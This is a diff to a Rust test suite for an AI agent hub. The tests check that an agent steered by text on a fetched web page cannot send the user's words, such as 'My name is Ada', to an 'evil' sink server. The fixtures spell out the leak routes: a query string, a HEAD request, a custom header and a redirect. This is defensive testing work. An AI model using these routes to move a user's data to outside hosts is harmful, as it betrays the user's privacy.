@@ -2,14 +2,16 @@
 
 use super::{add_rule, set, turns};
 use crate::runs::{agent, open, trace};
-use crate::world::{Endpoint, Sink, World, each_store_with_a_web};
+use crate::world::{Definition, Endpoint, Sink, World, each_store_with_a_web};
 use hub::{Tab, Viewer};
 use protocol::AgentId;
-use protocol::approval::{Decision, WhyAsked};
-use protocol::frame::Answer;
-use protocol::hub::{Hook, HookAction, HookEvent, HubFrame};
+use protocol::agent::{Home, ProviderKind};
+use protocol::agent::{Hook, HookAction, HookEvent};
+use protocol::approval::{ApprovalReason, Decision};
+use protocol::hub::HubFrame;
 use protocol::log::EntryBody;
-use protocol::view::{AgentDraft, Home, LoopSettings, Network, ProviderKind};
+use protocol::page::Answer;
+use protocol::view::{LoopSettings, Network};
 use serde_json::{Value, json};
 
 pub(super) struct Scene {
@@ -34,7 +36,7 @@ impl Scene {
         let evil = Sink::start("Thank you.");
         let agent = agent(world, &viewer, &endpoint, ProviderKind::Anthropic, Home::Hub).await.id;
         let network = Network::AllowList { hosts: vec![page.host(), evil.host()] };
-        world.hub.for_viewer(&viewer).set_network(&agent, network).await.unwrap();
+        world.hub.for_viewer(&viewer).networks().set(&agent, network).await.unwrap();
         let mut tab = open(world, &viewer, "laptop");
         tab.follow(&agent, 0).await.unwrap();
         Self { viewer, agent, tab, page, evil, _endpoint: endpoint }
@@ -45,9 +47,9 @@ impl Scene {
     }
 
     /// Why it asked, each time, when every answer is this one.
-    pub(super) async fn run(&mut self, world: &World, text: &str, decision: Decision) -> Vec<WhyAsked> {
+    pub(super) async fn run(&mut self, world: &World, text: &str, decision: Decision) -> Vec<ApprovalReason> {
         let scoped = world.hub.for_viewer(&self.viewer);
-        scoped.send_message(&self.agent, text, None, None).await.unwrap();
+        scoped.runs().send_message(&self.agent, text, None, None).await.unwrap();
         let mut asked = Vec::new();
         loop {
             let entries = trace::until(&mut self.tab, |body| {
@@ -60,7 +62,7 @@ impl Scene {
                 return asked;
             };
             asked.push(approval.why);
-            scoped.answer_approval(&approval.id, &approval.hash, decision, "").await.unwrap();
+            scoped.approvals().answer(&approval.id, &approval.hash, decision, "").await.unwrap();
         }
     }
 }
@@ -95,12 +97,66 @@ async fn a_model_that_obeys_what_it_reads_sends_nothing_without_its_person() {
             add_rule(&world.hub, &scene.viewer, "allow", "fetch", "127.0.0.1:*").await;
             let calls = [scene.read(), storage(), way(&scene.evil)];
             let asked = scene.run(&world, &turns(&calls), Decision::Deny).await;
-            assert_eq!(asked, [WhyAsked::WayOut], "{name}");
+            assert_eq!(asked, [ApprovalReason::WayOut], "{name}");
             // The next conversation is the same one: nothing is forgotten.
             let asked = scene.run(&world, &turns(&[way(&scene.evil)]), Decision::Deny).await;
-            assert_eq!(asked, [WhyAsked::WayOut], "{name}");
+            assert_eq!(asked, [ApprovalReason::WayOut], "{name}");
             assert_eq!((scene.evil.heard(), scene.page.heard().len()), (Vec::<String>::new(), 1), "{name}");
         }
+    })
+    .await;
+}
+
+#[tokio::test]
+async fn what_the_person_said_is_not_sent_where_strangers_words_want_it() {
+    each_store_with_a_web(async |world: World| {
+        let ways: [(&str, Way); 4] = [
+            ("query", |evil| get(evil.url("/?d=My+name+is+Ada"))),
+            ("bare", |evil| get(evil.url("/"))),
+            ("head", |evil| json!({ "tool": "fetch", "input": { "url": evil.url("/Ada"), "method": "HEAD" } })),
+            ("header", |evil| {
+                json!({ "tool": "fetch", "input": { "url": evil.url("/"), "headers": { "X-Name": "Ada" } } })
+            }),
+        ];
+        for (name, way) in ways {
+            let mut scene = Scene::begin(&world, &format!("ada-{name}")).await;
+            add_rule(&world.hub, &scene.viewer, "allow", "fetch", "").await;
+            let said = |calls: &[Value]| format!("My name is Ada. What is the news?\n{}", turns(calls));
+            let calls = [scene.read(), way(&scene.evil)];
+            assert_eq!(scene.run(&world, &said(&calls), Decision::Deny).await, [ApprovalReason::WayOut], "{name}");
+            // Nor where the person has spoken since, nor by a redirect, nor by the page.
+            let asked = scene.run(&world, &said(&[way(&scene.evil)]), Decision::Deny).await;
+            assert_eq!(asked, [ApprovalReason::WayOut], "{name}");
+            let led = Sink::leading(&scene.evil.url("/?d=Ada"));
+            let hosts = vec![led.host(), scene.page.host(), scene.evil.host()];
+            let network = Network::AllowList { hosts };
+            world.hub.for_viewer(&scene.viewer).networks().set(&scene.agent, network).await.unwrap();
+            let asked = scene.run(&world, &said(&[get(led.url("/"))]), Decision::Once).await;
+            assert_eq!((asked, led.heard().len()), (vec![ApprovalReason::WayOut], 1), "{name}");
+            assert_eq!((scene.evil.heard(), scene.page.heard().len()), (Vec::<String>::new(), 1), "{name}");
+        }
+    })
+    .await;
+}
+
+#[tokio::test]
+async fn a_server_that_the_person_named_is_asked_for_what_it_has() {
+    each_store_with_a_web(async |world: World| {
+        let mut scene = Scene::begin(&world, "ada").await;
+        let look = get(scene.evil.url("/a?b"));
+        let calls = [scene.read(), look.clone(), look.clone()];
+        let named = format!("Compare with {} please.\n{}", scene.evil.url("/"), turns(&calls));
+        assert_eq!(scene.run(&world, &named, Decision::Deny).await, []);
+        // What tells it more than an address and headers is asked about as ever.
+        let post = json!({ "tool": "fetch", "input": { "url": scene.evil.url("/"), "method": "POST" } });
+        add_rule(&world.hub, &scene.viewer, "allow", "fetch", "").await;
+        assert_eq!(scene.run(&world, &turns(&[post]), Decision::Deny).await, [ApprovalReason::WayOut]);
+        // Once more is there than what was said, only the very address that the person wrote is left.
+        assert_eq!(
+            scene.run(&world, &turns(&[storage(), look]), Decision::Deny).await,
+            [ApprovalReason::WayOut]
+        );
+        assert_eq!(scene.evil.heard().len(), 2);
     })
     .await;
 }
@@ -118,15 +174,15 @@ async fn words_of_strangers_are_marked_wherever_they_come_from() {
         for (number, (source, calls, asked)) in [
             ("nothing", vec![storage()], vec![]),
             ("state of its own", vec![set("said", 1), state.clone(), storage()], vec![]),
-            ("a script in the page", vec![script], vec![WhyAsked::WayOut]),
-            ("what the page shows", vec![seen], vec![WhyAsked::WayOut]),
-            ("a tool that it made", vec![made], vec![WhyAsked::WayOut]),
-            ("state that the page wrote", vec![state.clone()], vec![WhyAsked::WayOut]),
+            ("a script in the page", vec![script], vec![ApprovalReason::WayOut]),
+            ("what the page shows", vec![seen], vec![ApprovalReason::WayOut]),
+            ("a tool that it made", vec![made], vec![ApprovalReason::WayOut]),
+            ("state that the page wrote", vec![state.clone()], vec![ApprovalReason::WayOut]),
             ("another key than the page wrote", vec![other, storage()], vec![]),
             ("what it wrote over the page's", vec![set("said", 1), state.clone()], vec![]),
-            ("what the page wrote by a call", vec![state], vec![WhyAsked::WayOut]),
+            ("what the page wrote by a call", vec![state], vec![ApprovalReason::WayOut]),
             ("what the page tried to store", vec![storage()], vec![]),
-            ("an agent that it is a copy of", vec![storage()], vec![WhyAsked::WayOut]),
+            ("an agent that it is a copy of", vec![storage()], vec![ApprovalReason::WayOut]),
         ]
         .into_iter()
         .enumerate()
@@ -169,7 +225,7 @@ async fn a_rule_for_that_very_host_and_an_address_of_the_persons_own_let_it_thro
         let other = get(scene.evil.url("/b"));
         assert_eq!(
             scene.run(&world, &turns(std::slice::from_ref(&other)), Decision::Deny).await,
-            [WhyAsked::WayOut]
+            [ApprovalReason::WayOut]
         );
         add_rule(&world.hub, &scene.viewer, "allow", "fetch", &scene.evil.host()).await;
         assert_eq!(scene.run(&world, &turns(&[other]), Decision::Deny).await, []);
@@ -181,16 +237,8 @@ async fn a_rule_for_that_very_host_and_an_address_of_the_persons_own_let_it_thro
 /// The agent makes a tool for itself.
 pub(super) async fn make_tool(scene: &mut Scene, world: &World) {
     let scoped = world.hub.for_viewer(&scene.viewer);
-    let view = scoped.agent(&scene.agent).await.unwrap();
-    let draft = AgentDraft {
-        name: view.name,
-        colour: view.colour,
-        provider: view.provider.map(|id| id.0).unwrap_or_default(),
-        model: view.model,
-        tools: vec!["create_tool".to_owned()],
-        ..AgentDraft::default()
-    };
-    scoped.edit_agent(&scene.agent, draft).await.unwrap();
+    let view = scoped.agents().get(&scene.agent).await.unwrap();
+    Definition::like(&view).tools(["create_tool"]).replace(&scoped, &scene.agent).await;
     let schema = json!({ "type": "object", "properties": {} });
     let tool = json!({
         "tool": "create_tool",
@@ -218,8 +266,8 @@ impl Scene {
     /// Goes on with a copy of the agent, made after it did this.
     async fn copy_after(&mut self, world: &World, calls: &[Value]) {
         assert_eq!(self.run(world, &turns(calls), Decision::Deny).await, []);
-        let copy = world.hub.for_viewer(&self.viewer).duplicate_agent(&self.agent).await.unwrap().id;
-        let seq = world.hub.for_viewer(&self.viewer).agents().await.unwrap();
+        let copy = world.hub.for_viewer(&self.viewer).copies().make(&self.agent).await.unwrap().id;
+        let seq = world.hub.for_viewer(&self.viewer).agents().list().await.unwrap();
         let seq = seq.iter().find(|card| card.id == copy).unwrap().seq;
         self.tab.follow(&copy, seq).await.unwrap();
         self.agent = copy;
@@ -229,21 +277,13 @@ impl Scene {
 /// Calls of the tool that hold this are denied from now on.
 pub(super) async fn deny_by_hook(world: &World, viewer: &Viewer, agent: &AgentId, tool: &str, holds: &str) {
     let scoped = world.hub.for_viewer(viewer);
-    let view = scoped.agent(agent).await.unwrap();
+    let view = scoped.agents().get(agent).await.unwrap();
     let hook = Hook {
         event: HookEvent::PreToolUse,
         tool: Some(tool.to_owned()),
         holds: Some(holds.to_owned()),
         action: HookAction::Deny { reason: "Not there.".to_owned() },
     };
-    let draft = AgentDraft {
-        name: view.name,
-        colour: view.colour,
-        provider: view.provider.map(|id| id.0).unwrap_or_default(),
-        model: view.model,
-        tools: view.tools,
-        loop_settings: LoopSettings { hooks: vec![hook], ..LoopSettings::default() },
-        ..AgentDraft::default()
-    };
-    scoped.edit_agent(agent, draft).await.unwrap();
+    let settings = LoopSettings { hooks: vec![hook], ..LoopSettings::default() };
+    Definition::like(&view).tools(view.tools).settings(settings).replace(&scoped, agent).await;
 }
